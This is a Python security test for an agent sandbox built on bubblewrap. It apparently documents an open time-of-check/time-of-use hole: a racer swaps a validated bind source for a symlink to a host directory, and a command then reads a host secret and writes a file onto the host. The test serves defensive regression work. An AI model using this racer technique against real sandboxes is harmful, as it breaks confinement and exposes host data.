"""Fresh attacker round 6, letter m: check-then-use and self-reference against the sandboxes' confinement
(bubblewrap binds, the workspace, egress) and the host's pinned runs."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from engine.protocol.frames import RemoteError
from engine.sandbox import bwrap
from tests.helpers.bwrap import needs_bwrap
from tests.helpers.gateway import connect, gateway, write_config
from tests.helpers.race import tries

pytestmark = needs_bwrap


# A racer run inside the sandbox: renameat2(RENAME_EXCHANGE) of two names of its workspace, forever.
SANDBOX_RACER = (
    "import ctypes,os,sys;l=ctypes.CDLL(None);a,b=map(os.fsencode,sys.argv[1:3])\n"
    "while True: l.renameat2(-100,a,-100,b,2)"
)


def _bwrap_rw_config(binds: list[str]) -> str:
    quoted = ", ".join(f'"{b}"' for b in binds)
    return (
        '[tools.exec]\nhost = "sandbox"\nsecurity = "full"\nask = "off"\n'
        '[agents.defaults.sandbox]\nmode = "all"\nbackend = "bwrap"\nworkspaceAccess = "rw"\n'
        f"[agents.defaults.sandbox.docker]\nbinds = [{quoted}]\n"
    )


async def _exec(client: Any, command: str, **params: Any) -> dict[str, Any]:
    result = await client.request("exec", {"command": command, "agentId": "main", **params})
    details: dict[str, Any] = result["details"]
    details["_text"] = result["text"]
    return details


@pytest.mark.xfail(
    strict=True,
    reason="open: a bind source is checked by realpath, then a PTY command's one-shot bwrap binds it by "
    "path; the sandbox swaps it for a link to a host dir and gets that dir read-write",
)
@pytest.mark.asyncio
async def test_class6_bind_source_relinked_by_the_sandbox_reaches_the_host_in_a_terminal(
    state_dir: Path, tmp_path: Path
) -> None:
    """docker.binds may only name a source inside the workspace (validate_binds, by realpath): so every
    allowed bind source is a directory the sandbox itself can replace. The check runs when the sandbox is
    started; a PTY command is a one-shot bwrap that binds the same source again *by path*, unchecked. The
    sandbox swaps `data` for a symlink to a host directory, and its next PTY command has that host
    directory mounted read-write at /data."""
    workspace = state_dir / "workspace"
    (workspace / "data").mkdir(parents=True)
    host_dir = tmp_path / "host-secret"
    host_dir.mkdir()
    (host_dir / "secret.txt").write_text("host-only-secret\n")
    write_config(state_dir, _bwrap_rw_config([f"{workspace}/data:/data"]))
    try:
        async with gateway(state_dir):
            client = await connect(state_dir, operator=False)
            try:
                first = await _exec(client, "echo started; ls /data")
                assert first["status"] == "completed", first
                # The sandbox, in its own workspace (/workspace/data there): exchange the bind source with
                # a symlink to a host directory, atomically, in a loop (a background command of its own).
                race = f"python3 -c '{SANDBOX_RACER}' /workspace/data /workspace/evil"
                racer = await _exec(client, f"ln -s {host_dir} /workspace/evil && {race}", background=True)
                assert racer["status"] == "running", racer
                term: dict[str, Any] = {"_text": ""}
                refused = 0
                for attempts in tries(400):  # noqa: B007 (reported below)
                    try:
                        term = await _exec(
                            client,
                            "cat /data/secret.txt; echo pwned > /data/written-from-sandbox; echo done",
                            pty=True,
                        )
                    except RemoteError:
                        refused += 1
                        continue  # the check saw the link this time: try again
                    if (host_dir / "written-from-sandbox").exists():
                        break
                print(f"tries {attempts + 1}, refused by the check {refused}")
            finally:
                await client.close()
    finally:
        bwrap.remove_all()
    leaked = "host-only-secret" in term["_text"]
    written = (host_dir / "written-from-sandbox").exists()
    assert not leaked and not written, term["_text"]
